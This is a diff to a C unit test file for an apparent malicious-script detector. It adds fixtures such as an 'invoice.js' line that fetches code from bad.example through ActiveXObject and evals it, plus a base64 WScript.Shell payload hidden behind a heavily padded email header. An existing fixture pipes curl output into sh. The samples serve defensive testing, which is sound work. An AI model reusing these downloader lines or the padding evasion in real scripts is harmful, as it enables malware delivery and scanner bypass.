@@ -242,6 +242,10 @@ script_files(void **state)
          false},
         {"install.sh", "#!/bin/sh\ncurl -fsSL https://a.example/k | sh\neval \"$(ssh-agent)\"\n",
          false},
+        {"invoice.js",
+         "var x=new ActiveXObject('MSXML2.XMLHTTP');x.open('GET','http://bad.example/',false);"
+         "x.send();eval(x.responseText)",
+         true},
         {"jquery.js",
          "var m=/a/.exec(s);var x=new XMLHttpRequest();if(t)eval(s);String.fromCharCode(r);"
          "document.write(unescape(s))",
@@ -361,6 +365,14 @@ messages_in_files(void **state)
              "bmV3IEFjdGl2ZVhPYmplY3QoJ1dTY3JpcHQuU2hlbGwnKTsgZXZhbCgp\r\n--q--\r\n");
     (void)state;
     assert_true(content_has_url(m, "https://in.example/"));
+    assert_non_null(content_found(m, "script-dropper"));
+    /* much of nothing in front of what speaks of MIME */
+    m = file("old.eml", "application/octet-stream",
+             arena_printf(a,
+                          "X-Much: %09000d\r\nContent-Type: text/plain; name=a.js\r\n"
+                          "Content-Transfer-Encoding: base64\r\n\r\n"
+                          "bmV3IEFjdGl2ZVhPYmplY3QoJ1dTY3JpcHQuU2hlbGwnKTsgZXZhbCgp\r\n",
+                          0));
     assert_non_null(content_found(m, "script-dropper"));
 }
 
